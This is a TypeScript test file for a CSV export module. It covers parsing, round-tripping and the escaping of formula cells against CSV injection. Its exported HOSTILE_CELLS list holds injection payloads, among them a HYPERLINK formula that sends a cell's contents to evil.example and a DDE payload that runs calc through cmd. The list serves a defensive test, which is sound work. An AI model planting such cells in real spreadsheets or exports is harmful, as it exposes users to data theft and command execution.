import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { neutraliseFormula, parseCsv, restoreFormulaText, toCsv } from "./csv";

describe("CSV", () => {
  it("reads quotes, doubled quotes, line breaks in quotes, CRLF or LF, a BOM and blank lines", () => {
    for (const eol of ["\r\n", "\n"]) {
      expect(parseCsv(`\uFEFFslug,fr${eol}"a,b","il dit ""oui""\nsur deux lignes"${eol}${eol}c,d${eol}`)).toEqual([
        ["slug", "fr"],
        ["a,b", 'il dit "oui"\nsur deux lignes'],
        ["c", "d"],
      ]);
    }
  });

  it("detects the semicolon Excel writes in French and Dutch locales", () => {
    expect(parseCsv("slug;fr;nl\nx;Déclaration, simplifiée;Aangifte\n")).toEqual([
      ["slug", "fr", "nl"],
      ["x", "Déclaration, simplifiée", "Aangifte"],
    ]);
  });

  it("round-trips any text", () => {
    const rows = [["é ; ,", '"quoted"', "line\r\nbreak", " padded ", "", "<script>alert(1)</script>"]];
    for (const sep of [",", ";"] as const) {
      expect(parseCsv(toCsv(["a", "b", "c", "d", "e", "f"], rows, sep), sep).slice(1)).toEqual(rows);
    }
  });
});

/** Cells that Excel or LibreOffice would evaluate if written as they are (OWASP "CSV injection"). */
export const HOSTILE_CELLS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")',
  "+1+cmd|' /C calc'!A0",
  "-2+3",
  "@SUM(1,1)",
  "\t=1+1",
  "\r=1+1",
  " =1+1",
  "'=1+1",
  "''@x",
  "\uFF1D1+1",
  "- une liste",
];

describe("CSV cells that a spreadsheet would run", () => {
  it("are written behind an apostrophe, so no cell of the file starts a formula", () => {
    for (const sep of [",", ";"] as const) {
      const rows = parseCsvRaw(toCsv(["text"], HOSTILE_CELLS.map((c) => [c]), sep), sep).slice(1);
      for (const [cell] of rows) expect(cell!.startsWith("'"), JSON.stringify(cell)).toBe(true);
    }
  });

  it("come back as they were typed, and ordinary text is untouched", () => {
    const cells = [...HOSTILE_CELLS, "Déclaration", "'quoted'", "a = b", "e-mail", "1", "' plain"];
    for (const sep of [",", ";"] as const) {
      expect(parseCsv(toCsv(["text"], cells.map((c) => [c]), sep), sep).slice(1).map((r) => r[0])).toEqual(cells);
    }
  });

  it("leave numbers as numbers", () => {
    expect(toCsv(["n"], [[-3], [12]])).toBe("\uFEFFn\r\n-3\r\n12\r\n");
  });

  it("neutralise and restore as inverses", () => {
    for (const cell of [...HOSTILE_CELLS, "x", "'", "''", "' =", "'a"]) expect(restoreFormulaText(neutraliseFormula(cell))).toBe(cell);
    expect(neutraliseFormula("=1")).toBe("'=1");
    expect(neutraliseFormula("Bonjour")).toBe("Bonjour");
  });
});

/** The cells exactly as stored in the file (what a spreadsheet reads), without restoring them. */
function parseCsvRaw(text: string, sep: "," | ";"): string[][] {
  return Papa.parse<string[]>(text.replace(/^\uFEFF/, ""), { delimiter: sep, skipEmptyLines: true }).data;
}
